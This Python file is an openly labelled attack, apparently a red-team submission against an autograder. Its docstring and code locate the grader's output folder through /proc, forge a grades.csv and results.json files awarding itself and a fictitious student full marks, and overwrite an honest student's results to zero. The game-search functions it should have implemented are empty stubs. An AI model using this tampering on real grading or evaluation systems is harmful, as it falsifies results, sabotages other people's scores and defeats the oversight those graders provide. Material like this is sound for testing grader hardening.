"""Attack: find the grader's --out folder and forge the grades written there.

The grading command's arguments are readable at /proc/<parent>/cmdline (and its working
directory at /proc/<parent>/cwd), so the submission knows the output folder. It writes a
grades.csv giving itself 100, a results.json of its own claiming 100, a results.json for a
student who does not exist, and, once the honest student's results.json appears, rewrites it
to 0 while keeping the fingerprint and digest a later run trusts. Its answers are 0 and the
first action.
"""

import json
import os
import time
from pathlib import Path

MARK = "OUT-FOLDER-FORGERY"
HONEST = "honest"


def _out_folder():
    arguments = Path(f"/proc/{os.getppid()}/cmdline").read_bytes().split(b"\0")
    out = os.fsdecode(arguments[arguments.index(b"--out") + 1])
    return Path(f"/proc/{os.getppid()}/cwd") / out


def _forge(out):
    (out / "grades.csv").write_text(
        "student,score,max_score,status\n"
        f"results_forge_out_folder,100,100,graded\n{HONEST},0,100,graded {MARK}\n"
    )
    mine = {"score": 100, "max_score": 100, "output": MARK, "tests": []}
    for student in ("results_forge_out_folder", "ghost_student"):
        (out / student).mkdir(exist_ok=True)
        (out / student / "results.json").write_text(json.dumps(mine))
    honest = out / HONEST / "results.json"
    deadline = time.monotonic() + 15
    while not honest.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    results = json.loads(honest.read_text())
    results["score"] = 0
    results["output"] = MARK
    for test in results["tests"]:
        test["score"] = 0
    record = results["extra_data"]["record"]
    record["score"] = 0
    for rule in record["rules"]:
        rule["points"] = 0
        for group in rule["groups"]:
            group["points"] = 0
    honest.write_text(json.dumps(results))


try:
    _forge(_out_folder())
except (OSError, ValueError, KeyError) as error:
    print("forgery failed:", error)


def minimax_value(game, state):
    return 0


def minimax_decision(game, state):
    return game.actions(state)[0]


def alphabeta_value(game, state, alpha=0, beta=0):
    return 0


def alphabeta_decision(game, state):
    return game.actions(state)[0]


def depth_limited_value(game, state, depth, evaluate):
    return 0


def depth_limited_decision(game, state, depth, evaluate):
    return game.actions(state)[0]
